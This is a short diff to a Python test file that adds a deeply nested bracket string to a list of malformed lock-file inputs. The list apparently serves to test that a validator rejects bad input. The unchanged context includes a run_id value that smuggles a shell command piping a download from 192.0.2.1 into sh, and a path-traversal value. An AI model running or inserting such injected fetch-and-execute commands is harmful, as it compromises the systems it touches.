@@ -112,6 +112,7 @@ def lock_text(**changes: object) -> str:
         "[]",
         "7",
         '{"run_id": "x"}',
+        pytest.param("[" * 1000, id="JSON without a bottom"),
         lock_text(run_id="x; curl http://192.0.2.1 | sh"),
         lock_text(run_id=["CHG-1"]),
         lock_text(run_id="../CHG-1"),
